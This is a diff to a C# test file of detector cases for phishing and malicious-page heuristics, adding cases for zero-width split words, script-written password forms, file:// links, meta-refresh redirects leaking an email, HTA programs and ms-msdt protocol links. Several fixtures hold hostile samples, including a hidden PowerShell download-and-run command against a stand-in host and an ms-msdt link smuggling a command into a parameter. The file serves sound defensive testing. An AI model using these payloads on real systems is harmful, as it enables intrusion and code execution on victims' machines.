@@ -22,6 +22,11 @@ public sealed class TrapCases
         new(NamelessLink, Letter("<a href='http://192.0.2.1/login'>https://www.firm.com/login</a>"), Letter("<a href='http://192.168.0.1/'>https://router.firm.com/</a>"), Letter("<a href='https://click.one.invalid/x'>https://www.firm.com/login</a>"), Letter("<a href='http://192.0.2.1/login'>the wiki</a>")),
     ];
 
+    private static readonly HeuristicCase[] Split =
+    [
+        new(SplitWords, Letter(string.Concat(Enumerable.Repeat("pass\u200Bword ", 8))), Letter(string.Concat(Enumerable.Repeat("pass\u200Bword ", 3))), Letter(string.Concat(Enumerable.Repeat("\u200B \u00A0", 40))), Letter(string.Concat(Enumerable.Repeat("Donau\u00ADdampf\u00ADschiff ", 20)))),
+    ];
+
     private static readonly HeuristicCase[] Documents =
     [
         new(CommandLink, Slides("powershell%20-w%20hidden%20-c%20iex(irm%20https://host.invalid/)"), Slides("https://docs.invalid/powershell%20-w"), Slides("..\\notes.docx"), Slides("mailto:a@one.invalid")),
@@ -44,6 +49,14 @@ public sealed class TrapCases
         HeuristicCase.Of(HoldsVisitor, "a.html", Page(Scanning + Script("document.documentElement.requestFullscreen();onbeforeunload=f;document.body.requestPointerLock()")), Page("<h1>Space game</h1>" + Script("document.documentElement.requestFullscreen();onbeforeunload=f;document.body.requestPointerLock()")),
             Page(Scanning + Script("document.documentElement.requestFullscreen()")), Page(Scanning)),
         HeuristicCase.Of(FakeUpdate, "a.html", Page(Update + Script("location='https://host.invalid/dl/'+'Chrome_131.dmg'")), Page(Update + "<a href='https://www.google.com/chrome/'>Update</a>"), Page(Update + Script("e.src='https://browser-update.invalid/update.min.js'")), Page("Our program" + Script("location='https://host.invalid/dl/update.exe'"))),
+        HeuristicCase.Of(CredentialWritten, "a.html", Page(Script("app.innerHTML='<form><input name=user><input type=password name=pw></form>'")), Page("<form><input type=password></form>"), Page(Script("var note='<input type=password> is a field'")), Page(Script("app.innerHTML='<input type=text>'"))),
+        HeuristicCase.Of(FileServer, "a.html", Page("<a href='file://files.firm.invalid/print/'>Printers</a>"), Page("<a href='file:///C:/notes.txt'>notes</a>"), Page("<code>file://files.firm.invalid/print/</code>"), Page("<a href='https://files.firm.invalid/print/'>Printers</a>")),
+        HeuristicCase.Of(ForwardsVictim, "a.html", "<html><head><meta http-equiv=refresh content='0; url=https://host.invalid/o?email=dana@two.invalid'></head><body>Loading...</body></html>", "<html><head><meta http-equiv=refresh content='0; url=https://host.invalid/new'></head><body>Moved</body></html>",
+            Page("You are leaving our pages. The survey is run by another firm, which we have chosen with care; it learns your address, so that nobody answers twice. <meta http-equiv=refresh content='9; url=https://host.invalid/o?email=dana@two.invalid'>"), Page("<form><input name=q></form><iframe src='https://host.invalid/o?email=dana@two.invalid'></iframe>")),
+        HeuristicCase.Of(ProtocolCommand, "a.html", Page(Script("location.href='ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=h$(calc)i/x.exe'")), Page("<a href='ms-msdt:/id NetworkDiagnosticsWeb'>Repair</a>"), Page("<p>ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x was a flaw</p>"), Page("<a href='ms-officecmd:%7B%22id%22:3%7D'>Open</a>")),
+        HeuristicCase.Of(HtaProgram, "a.hta", "<html><hta:application id=x><script>function go(){new ActiveXObject('WScript.Shell').Run('msiexec /i a.msi',1,true)}</script><button onclick='go()'>Install</button></html>",
+            "<html><hta:application id=x><script>function go(){alert(1)}</script><button onclick='go()'>Show</button></html>", "<html><hta:application id=x><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>",
+            "<html><hta:application id=x><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c calc',0)</script><button>OK</button></html>"),
         HeuristicCase.Of(WalletBait, "a.html", Page("Claim your airdrop" + Script("c.setApprovalForAll(r,true)")), Page("Claim your airdrop at the desk"), Page("Sell your picture" + Script("c.setApprovalForAll(r,true)")), Page("Claim your refund" + Script("s.signMessage('I vote')"))),
     ];
 
@@ -71,7 +84,7 @@ public sealed class TrapCases
             "full address:s:host.invalid\r\nremoteapplicationprogram:s:cmd.exe\r\n", "full address:s:host.invalid\r\nalternate shell:s:||RDesk\r\n"),
     ];
 
-    private static HeuristicCase[] All => [.. Letters, .. Documents, .. Pages, .. Scripts, .. Sites];
+    private static HeuristicCase[] All => [.. Letters, .. Split, .. Documents, .. Pages, .. Scripts, .. Sites];
 
     public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];
 
